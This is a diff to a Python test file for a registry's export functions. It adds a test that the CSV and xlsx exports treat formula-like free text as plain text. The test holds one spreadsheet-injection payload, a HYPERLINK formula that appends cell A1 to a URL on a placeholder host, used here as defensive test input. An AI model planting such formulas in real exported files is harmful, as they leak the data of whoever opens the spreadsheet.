@@ -5,10 +5,12 @@ import and export, and the gap map."""
 from __future__ import annotations
 
 import csv
+import io
 import json
 import uuid
 from pathlib import Path
 
+import openpyxl
 import pytest
 from metodbank_helpers import BACKENDS, new_database_url
 from sqlalchemy import func, inspect, select, text
@@ -319,6 +321,20 @@ def test_export_has_only_published_real_measures(db, tmp_path):
     ids = {r["id"] for r in data["insatser"]}
     assert draft not in ids and demo not in ids and all(r["status"] == "publicerad" and not r["exempel"] for r in data["insatser"])
     assert "EXEMPEL" not in (tmp_path / "ut.csv").read_text()
+
+
+def test_export_never_hands_a_spreadsheet_a_formula(db, tmp_path):
+    """A measure's free text that starts like a formula stays text in the CSV and the xlsx."""
+    evil = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"klicka\")"
+    new = registry.create(db, STAFF, validate_insats(measure(beskrivning=evil)), status="publicerad")
+    transfer.export(db, tmp_path / "ut.csv")
+    transfer.export(db, tmp_path / "ut.xlsx")
+    row = next(r for r in csv.DictReader(io.StringIO((tmp_path / "ut.csv").read_text())) if r["id"] == str(new))
+    assert row["beskrivning"] == "'" + evil
+    sheet = openpyxl.load_workbook(tmp_path / "ut.xlsx").active
+    cells = [c for c in sheet.iter_rows(values_only=True) if c[0] == new]
+    assert cells and cells[0][transfer.FLAT.index("beskrivning")] == evil  # a string cell, not a formula
+    assert not any(isinstance(c.value, str) and c.data_type == "f" for r in sheet.iter_rows() for c in r)
 
 
 # ---- gap map ---------------------------------------------------------------------------
